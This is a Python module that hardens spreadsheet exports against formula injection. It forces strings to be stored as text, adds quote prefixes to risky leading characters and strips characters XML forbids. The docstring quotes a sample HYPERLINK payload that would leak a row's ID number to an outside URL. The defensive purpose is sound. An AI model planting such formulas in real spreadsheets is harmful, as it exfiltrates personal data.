"""Every .xlsx the system writes is made here: text is written as text.

openpyxl writes a string that starts with ``=`` as a live formula, and one that reads like an
error code (``#N/A``) as an error. A senior named ``=HYPERLINK("http://…"&B4,"点我")`` would
then be a link sending the row's ID number away when clicked. The workbooks made here write
every string as a string cell (``t="inlineStr"`` or a shared string, never ``<f>``), and a
string starting with ``= + - @``, a tab, a line break or ``#`` also gets Excel's quote prefix
(the hidden ``'`` of a cell typed as ``'=1+1``): the reader sees the text exactly, and editing
the cell in Excel or WPS keeps it text instead of turning it into a formula.

Two things cannot be kept as they were: a carriage return becomes a line break (XML turns
``\\r`` into ``\\n`` when any program reads the file, so it is written as ``\\n`` from the
start), and control characters that XML forbids (NUL and the like) are dropped, since no
spreadsheet can hold them.

Use ``new_workbook()`` and ``workbook_bytes()``, and ``append()`` for the rows of an
ordinary sheet; ``cell()`` makes a styled cell for the rows of a write-only sheet.
``tests/test_spreadsheet_text.py`` drives every export with such text and checks the cells,
and refuses an ``openpyxl.Workbook`` made anywhere else.
"""

from __future__ import annotations

import io
from typing import Any

from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What a spreadsheet program may take as the start of a formula when the cell is edited
# (= + - @, and a tab or a line break before one), and the start of an error code (#).
RISKY_START = ("=", "+", "-", "@", "\t", "\r", "\n", "#")


def text(value: str) -> str:
    """``value`` as it can be stored: line breaks as ``\\n``, no forbidden control characters."""
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def _needs_cell(value: str) -> bool:
    return value.startswith(RISKY_START)


def _text_cell(sheet, value: str) -> Cell:
    cell = Cell(sheet, row=1, column=1, value=value)
    _as_text(cell)
    return cell


def _as_text(cell: Cell) -> None:
    """A cell holding a string: stored as a string, quote-prefixed when it starts riskily."""
    value = text(cell.value)
    if value != cell.value:
        cell.value = value
    cell.data_type = "s"
    if _needs_cell(value):
        cell.quotePrefix = True


_RISKY = frozenset(RISKY_START)


def _safe(sheet, value: Any) -> Any:
    # called for every value of every row of a 50,000-person ledger: the usual text (no
    # control character, an ordinary first character) passes through two quick tests
    if isinstance(value, str):
        if not value.isprintable():
            value = text(value)
        if value[:1] in _RISKY:
            return _text_cell(sheet, value)
    elif isinstance(value, Cell) and isinstance(value.value, str):
        _as_text(value)
    return value


def append(sheet, values) -> None:
    """Append a row to ``sheet``, its text as text (for an ordinary sheet: its cells are
    checked again when saved, but a forbidden control character must go before openpyxl
    sees it)."""
    sheet.append([_safe(sheet, value) for value in values])


def cell(
    sheet, value: Any, *, font=None, fill=None, alignment=None, number_format: str | None = None
) -> Cell:
    """A cell for a row of ``sheet`` (a write-only sheet's rows take styled cells this way);
    ``number_format`` shows a number with its unit (``0.0" %"``) and keeps it a number."""
    made = Cell(sheet, row=1, column=1, value=text(value) if isinstance(value, str) else value)
    if isinstance(made.value, str):
        _as_text(made)
    if font is not None:
        made.font = font
    if fill is not None:
        made.fill = fill
    if alignment is not None:
        made.alignment = alignment
    if number_format is not None and not isinstance(made.value, str):
        made.number_format = number_format
    return made


class _WriteOnlySheet(WriteOnlyWorksheet):
    """A streamed sheet whose rows are checked as they are appended (they cannot be later)."""

    def append(self, row) -> None:
        super().append([_safe(self, value) for value in row])


class Workbook(_OpenpyxlWorkbook):
    """openpyxl's workbook, writing text as text. Sheets of an ordinary workbook are checked
    cell by cell when saved; a write-only workbook's rows as they are appended."""

    def create_sheet(self, title=None, index=None):
        if not self.write_only:
            return super().create_sheet(title=title, index=index)
        sheet = _WriteOnlySheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename) -> None:
        if not self.write_only:
            for sheet in self.worksheets:
                for row in sheet.iter_rows():
                    for each in row:
                        if isinstance(each.value, str):
                            _as_text(each)
        super().save(filename)


def new_workbook(*, write_only: bool = False) -> Workbook:
    """A workbook to export: write-only (streamed, for long lists) or ordinary."""
    return Workbook(write_only=write_only)


def workbook_bytes(workbook: Workbook) -> bytes:
    """The .xlsx file of ``workbook``."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
